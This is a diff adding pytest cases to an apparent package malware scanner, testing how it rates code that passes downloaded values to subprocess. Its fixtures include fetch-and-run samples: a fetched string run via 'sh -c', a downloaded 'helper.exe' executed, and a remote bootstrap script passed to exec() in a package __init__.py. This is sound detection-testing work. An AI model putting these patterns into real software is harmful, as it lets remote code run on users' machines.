@@ -2947,3 +2947,119 @@ def test_a_machine_type_in_a_download_address_is_not_identity():
     )
     result = scan({"setup.py": source})
     assert not found(result, "intent.exfiltration")
+
+
+# -- downloaded values handed to a program that was not downloaded --------------------------------
+
+_LOGIN = """
+import shutil
+import subprocess
+
+import requests
+
+
+def _token(registry):
+    return requests.post(f"https://{{registry}}/oauth2/token").json()["access_token"]
+
+
+def login(registry):
+    password = _token(registry)
+    tool = find_tool()
+    subprocess.run({command}, check=True)
+
+
+def find_tool():
+    return "oras"
+"""
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        '[tool, "login", "--username", "me", "--password", password, registry]',
+        '("oras", "login", "--username", "me", "--password", password, registry)',
+    ],
+)
+def test_a_fetched_token_given_to_a_program_found_on_path_is_not_downloaded_code(command):
+    """The program item (a variable holding a tool found on PATH, or a name in a tuple) holds
+    nothing fetched: what runs is that tool, with a fetched token as one of its arguments."""
+    source = _LOGIN.format(command=command)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/registry.py": source})
+    assert severities(result, "intent.download-execute") <= {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "[password]",  # the fetched value is the program
+        "[python, password]",  # an interpreter held in a variable runs what it is given
+        '["sh", "-c", password]',
+        "(password, registry)",
+    ],
+)
+def test_a_fetched_value_run_as_the_program_or_by_an_interpreter_stays_serious(command):
+    source = _LOGIN.format(command=command).replace(
+        "    tool = find_tool()\n", '    tool = find_tool()\n    python = shutil.which("python3")\n'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/registry.py": source})
+    assert "high" in severities(result, "intent.download-execute")
+    assert result.verdict in FLAGGED
+
+
+def test_a_file_fetched_then_run_with_fetched_arguments_stays_serious():
+    """The program is the path a fetch was saved to: that file is what runs."""
+    source = """
+import subprocess
+import urllib.request
+
+import requests
+
+
+def update():
+    urllib.request.urlretrieve("https://cdn.example-files.net/u/helper.exe", "helper.exe")
+    key = requests.get("https://cdn.example-files.net/u/key").text
+    subprocess.run(["helper.exe", key])
+"""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/update.py": source})
+    assert result.verdict in FLAGGED
+
+
+# -- flit's older metadata table names the one module it installs ----------------------------------
+
+_OLD_FLIT = """
+[build-system]
+requires = ["flit_core >=2,<4"]
+build-backend = "flit_core.buildapi"
+
+[tool.flit.metadata]
+module = "demo"
+requires-extra = {docs = ["sphinx ~= 4.5"]}
+"""
+_DOCS_BOOTSTRAP = """
+from urllib import request
+
+if __name__ == "__main__":
+    with request.urlopen("https://raw.example-git.org/org/tools/main/bootstrap.py") as r:
+        exec(r.read().decode("utf-8"), globals())
+"""
+
+
+def test_a_docs_script_beside_an_old_style_flit_module_is_tooling():
+    """``[tool.flit.metadata] module``: the sphinx/ folder is not installed, though the docs
+    extra names sphinx."""
+    result = scan(
+        {"pyproject.toml": _OLD_FLIT, "demo/__init__.py": "", "sphinx/make.py": _DOCS_BOOTSTRAP}
+    )
+    assert "demo-1.0/sphinx/make.py" in result.tooling
+    assert result.verdict not in FLAGGED
+
+
+def test_the_module_an_old_style_flit_table_names_stays_installed_code():
+    init = _DOCS_BOOTSTRAP.replace('if __name__ == "__main__":', "if True:")
+    result = scan({"pyproject.toml": _OLD_FLIT, "demo/__init__.py": init})
+    assert result.verdict == "malicious"
+    moved = _OLD_FLIT.replace('module = "demo"', 'module = "sphinx"')
+    result = scan({"pyproject.toml": moved, "demo/__init__.py": "", "sphinx/make.py": init})
+    assert "demo-1.0/sphinx/make.py" not in result.tooling
+    assert result.verdict == "malicious"
